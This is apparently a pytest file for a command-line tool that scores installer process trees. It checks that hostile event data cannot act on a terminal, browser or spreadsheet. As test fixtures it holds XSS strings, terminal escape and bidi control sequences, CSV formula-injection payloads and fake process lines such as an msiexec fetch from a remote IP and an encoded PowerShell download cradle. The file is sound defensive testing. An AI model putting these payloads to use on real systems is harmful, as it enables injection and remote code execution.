"""What is shown: nothing in an event can act on a terminal, a browser or a spreadsheet program."""

from __future__ import annotations

import csv
import html.parser
import io
import json
import re
import shutil
import subprocess
from collections import Counter
from xml.etree import ElementTree

import pytest
from installer_trees.drawing import command_line
from sample import SAMPLES

from installerscore_cli.clean import visible
from installerscore_cli.reading import Report
from installerscore_cli.views import Overview
from installerscore_cli.views.listing import Listing
from installerscore_cli.views.plain import FORMULA
from installerscore_cli.views.style import CSS
from installerscore_cli.views.terminal import Screen

from .conftest import DATA, Terminal

NASTY = (
    "<script>document.title='TAKEN'</script>"
    "\"onload=\"document.title='TAKEN' x='"
    "<img src=x onerror=document.title='TAKEN'>"
    "</title></style></svg></pre>]]>-->&lt;&#x3c;"
)
CONTROLS = "\x1b]0;TAKEN\x07\x1b[2J\x9b31m\u202egpj.\u2066\u200b\x08\x08\r\n\x00\x7f"


def nasty_events(text: str = NASTY + CONTROLS) -> bytes:
    """An install in which everything that can be chosen is hostile."""
    common = {"dest": f"host {text}", "user": f"CORP\\{text}"}
    parent = {"process_name": "msiexec.exe", "process_id": 10}
    rows = [
        {
            **common,
            **parent,
            "_time": 1795310700,
            "process": f"msiexec /i http://45.9.148.17/{text}",
        },
        {
            **common,
            "_time": 1795310701,
            "process_id": 11,
            "process_name": f"cmd.exe{text}",
            "process": f"cmd.exe /c {text} powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBj",
            "process_path": f"C:\\{text}\\cmd.exe",
            "parent_process_id": 10,
            "parent_process_name": "msiexec.exe",
        },
        {
            **common,
            "_time": 1795310702,
            "process_id": 12,
            "process_name": "powershell.exe",
            "process": f"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABO {text}",
            "parent_process_id": 11,
        },
        {**common, **parent, "_time": 1795310703, "action": "created", "file_path": f"C:\\{text}"},
    ]
    return "\n".join(map(json.dumps, rows)).encode()


def controls(text: str) -> set[str]:
    return {c for c in text if c != "\n" and (not c.isprintable() or visible(c) != c)}


@pytest.mark.parametrize("output", ["table", "jsonl", "csv", "html"])
def test_no_control_character_reaches_the_output(program, output):
    ran = program("-", "--output", output, stdin=nasty_events())
    assert ran.code == 0, ran.err
    assert "TAKEN" in ran.out, "the text is shown, not dropped"
    assert controls(ran.out) == set()
    assert controls(ran.err) == set()


@pytest.mark.parametrize("command", ["processes", "health"])
def test_no_control_character_reaches_other_commands(program, command):
    for output in ("csv", "jsonl"):
        ran = program(command, "-", "--output", output, stdin=nasty_events())
        assert ran.code == 0, ran.err
        assert ran.out, "there is something to look at"
        assert controls(ran.out + ran.err) == set()


def test_messages_about_bad_input_are_safe(program, tmp_path):
    path = tmp_path / "a\x1b[2J.csv"
    path.write_text("x\x1b[31m,y\n1,2\n")
    ran = program(path)
    assert ran.code == 2
    assert controls(ran.err) == set()
    assert "\\x1b[31m" in ran.errors[0]


def test_color_is_the_only_escape_on_a_terminal(program, monkeypatch):
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm")
    stream = Terminal()
    Screen(stream, 100).tree([f"root {CONTROLS}", f"└─ {CONTROLS}  <-- WIN001"])
    colors = re.sub(r"\x1b\[[0-9;]*m", "", stream.getvalue())
    assert controls(colors) == set()
    assert stream.getvalue() != colors


@pytest.mark.parametrize(
    ("environment", "colored"),
    [({}, True), ({"NO_COLOR": "1"}, False), ({"TERM": "dumb"}, False), ({"NO_COLOR": ""}, True)],
)
def test_color_only_where_it_is_wanted(monkeypatch, environment, colored):
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm")
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    stream = Terminal()
    stream.encoding = "ascii"
    Screen(stream, 80).title("A title with \u2014 a dash")
    assert ("\x1b[1m" in stream.getvalue()) is colored
    assert "A title with ? a dash" in stream.getvalue()


def test_tree_lines_keep_their_signals_and_their_shape_without_unicode(monkeypatch):
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm")
    stream = Terminal()
    stream.encoding = "ascii"
    lines = ["root", "└─ " + "x" * 200 + "  <-- WIN001 WIN002"]
    Screen(stream, 80).tree(lines)
    root, child = stream.getvalue().splitlines()
    assert root == "  root"
    assert child.startswith("\x1b[31m  `- xxx")
    assert "..  <-- WIN001 WIN002" in child


@pytest.mark.parametrize("width", [80, 100, 140])
def test_the_table_fits_the_width(program, monkeypatch, width):
    monkeypatch.setenv("COLUMNS", str(width))
    out = program(DATA, "--host", "h").out
    assert max(map(len, out.splitlines())) <= width


def test_a_quiet_tree_is_not_drawn_and_the_rest_is_counted(program):
    out = program(DATA, "--host", "h", "--top", "1", "--draw", "5").out
    assert out.count("Why (signal") == 1
    assert "more with lower scores; --top 0 shows all." in out


@pytest.mark.parametrize(
    ("scores", "said"),
    [
        ([91, 40, 0], "1 more with a lower score; --top 0"),
        ([91, 40, 40], "1 more with the same score; --top 0"),
        ([91, 40, 40, 40], "2 more with the same score; --top 0"),
        ([91, 40, 40, 0], "2 more with the same or lower scores; --top 0"),
        ([91, 40, 30, 0], "2 more with lower scores; --top 0"),
        ([91, 40], ""),
    ],
)
def test_what_is_left_out_is_said_to_score_what_it_does(program, monkeypatch, scores, said):
    stream = io.StringIO()
    (row,) = program(DATA / "sysmon.xml", "--output", "jsonl").rows
    overview = Overview(scores, Counter(), Report())
    listing = Listing(Screen(stream, 120), overview, most=2, drawn=0, quiet=True)
    for score in scores[:2]:
        listing.add(None, {**row, "installer_score": score})
    listing.close()
    lines = [line for line in stream.getvalue().splitlines() if " more with " in line]
    assert [line.partition("--top 0")[0] + "--top 0" for line in lines] == ([said] if said else [])


def test_the_scores_of_a_run_are_compared(program):
    quiet = SAMPLES / "windows" / "win_nsis_notepadpp.jsonl"
    text = quiet.read_text(encoding="utf-8")
    other = text.replace('"dest": "', '"dest": "other-').replace('"src": "', '"src": "other-')
    assert "1 more with the same score; --top 0 shows all." in (
        program("--top", "1", stdin=(text + other).encode()).out
    )


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("start", [*FORMULA, "\t=", "\r="])
def test_a_cell_cannot_become_a_formula(program, start):
    payload = f'{start}HYPERLINK("http://192.0.2.1")'
    events = nasty_events(payload).replace(b'"host ', b'"').replace(b"CORP\\\\", b"")
    table = program("-", "--output", "csv", stdin=events).out
    assert not [cell for cell in cells(table) if cell.startswith(FORMULA)]
    assert "HYPERLINK" in table
    raw = program("-", "--output", "csv", "--raw", stdin=events).out
    assert payload.replace("\r", " ") in cells(raw)


class Page(html.parser.HTMLParser):
    """Collects what a browser would make of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: dict[str, int] = {}
        self.attributes: list[tuple[str, str, str]] = []
        self.texts: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags[tag] = self.tags.get(tag, 0) + 1
        self.attributes += [(tag, name, value or "") for name, value in attributes]

    def handle_data(self, data):
        self.texts.append(data)


TAGS = set(
    "a body circle code dd details div dl dt figcaption figure footer g h1 h2 h3 head html li meta "
    "p path pre section span strong style summary svg table tbody td text th thead title tr "
    "ul".split()
)


@pytest.fixture
def page(program) -> str:
    return program("-", "--output", "html", stdin=nasty_events()).out


def test_a_report_runs_nothing_and_loads_nothing(page):
    parsed = Page(page)
    assert set(parsed.tags) <= TAGS
    assert not [one for one in parsed.attributes if one[1].startswith("on")]
    assert {name for _, name, _ in parsed.attributes}.isdisjoint({"src", "style", "srcset", "data"})
    links = [value for _, name, value in parsed.attributes if name in ("href", "xlink:href")]
    assert links
    assert all(re.fullmatch(r"#tree-\d+", link) for link in links)
    assert "url(" not in CSS
    assert "@import" not in CSS
    (policy,) = (v for _, name, v in parsed.attributes if name == "content" and "default-src" in v)
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert "<script>document.title='TAKEN'</script>" in "".join(parsed.texts)


def test_the_report_of_a_sample_says_what_the_rows_say(program):
    text = program(DATA / "sysmon.xml", "--output", "html").out
    (row,) = program(DATA / "sysmon.xml", "--output", "jsonl").rows
    shown = "".join(Page(text).texts)
    assert f"{row['installer_score']} {row['installer_severity']}" in shown
    assert row["risk_message"] in shown
    for line in row["tree"] + row["signal_detail"]:
        assert line in shown
    for threat in row["threat_object"]:
        assert threat in shown
    assert "Known false positives" in shown


def test_the_picture_is_well_formed_and_links_every_process(program):
    text = program(DATA / "sysmon.xml", "--output", "html").out
    svg = ElementTree.fromstring(re.search(r"<svg.*?</svg>", text, re.DOTALL)[0])
    nodes = [group for group in svg.findall("./g") if group.get("class") != "links"]
    assert len(nodes) == 8, "nine processes without the console host"
    assert len(svg.findall("./g[@class='links']/path")) == 7
    top, _, width, _ = (float(n) for n in svg.get("viewBox").split())
    assert top == 0
    for text in svg.iter("text"):
        assert float(text.get("x")) + float(text.get("textLength", 0)) <= width
    marked = [node for node in nodes if node.find("text[@class='signals']") is not None]
    (row,) = program(DATA / "sysmon.xml", "--output", "jsonl").rows
    assert len(marked) == sum("  <-- " in line for line in row["tree"])


@pytest.mark.parametrize(
    "name", ["sysmon.xml", "splunk_datamodel.csv", "elastic_defend.ndjson", "eslogger.jsonl"]
)
def test_a_process_is_called_the_same_in_text_picture_and_table(program, name):
    """Whatever the columns are called that it was read from."""
    text = program(DATA / name, "--output", "html").out
    svg = ElementTree.fromstring(re.search(r"<svg.*?</svg>", text, re.DOTALL)[0])
    labels = [label.text for label in svg.findall("./g/text[@class='label']")]
    (row,) = program(DATA / name, "--output", "jsonl").rows
    lines = [line.partition("  <-- ")[0].lstrip("├└│─ ") for line in row["tree"]]
    lines = [line for line in lines if not line.startswith("... ")]
    for label, line in zip(labels, lines):
        start, _, end = label.partition("\u2026")
        assert line.startswith(start)
        assert line.endswith(end)
        assert start
    assert len(labels) == len(lines)
    table = program(DATA / name, "--draw", "0").out
    root = command_line(row["process_name"], row["process"], folder=False)
    assert root[:20] in table


def test_a_folder_with_blanks_is_left_out_of_the_table_whole(program):
    row = {
        "dest": "h",
        "process_name": "msiexec.exe",
        "process": r"C:\Program Files\A B\msiexec.exe /i a.msi",
        "process_id": 1,
    }
    out = program("-", stdin=json.dumps(row).encode()).out
    (line,) = (line for line in out.splitlines() if re.match(r" +\d+  informational", line))
    assert "  msiexec.exe /i a.msi" in line


def test_a_long_tree_is_cut_and_says_so(program):
    parent = {"dest": "h", "process_name": "dpkg", "process": "dpkg -i a.deb", "process_id": 1}
    child = {"dest": "h", "process_name": "cp", "process": "cp a b", "parent_process_id": 1}
    events = [{**parent, "_time": 1}] + [
        {**child, "_time": i, "process_id": i} for i in range(2, 500)
    ]
    text = program("-", "--output", "html", stdin="\n".join(map(json.dumps, events)).encode()).out
    assert "439 more processes are not drawn." in text


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium on the PATH")
def test_in_a_real_browser_a_hostile_command_line_is_only_text(page, tmp_path):
    path = tmp_path / "report.html"
    path.write_text(page, encoding="utf-8")
    browser = subprocess.run(
        [
            CHROMIUM,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--enable-logging=stderr",
            f"--user-data-dir={tmp_path / 'profile'}",
            "--dump-dom",
            path.as_uri(),
        ],
        capture_output=True,
        encoding="utf-8",
        timeout=120,
        check=True,
    )
    dom = Page(browser.stdout)
    assert set(dom.tags) <= TAGS | {"body", "head"}
    assert "<title>Installer trees</title>" in browser.stdout
    assert "CONSOLE" not in browser.stderr, "the policy stopped something, or a style was refused"
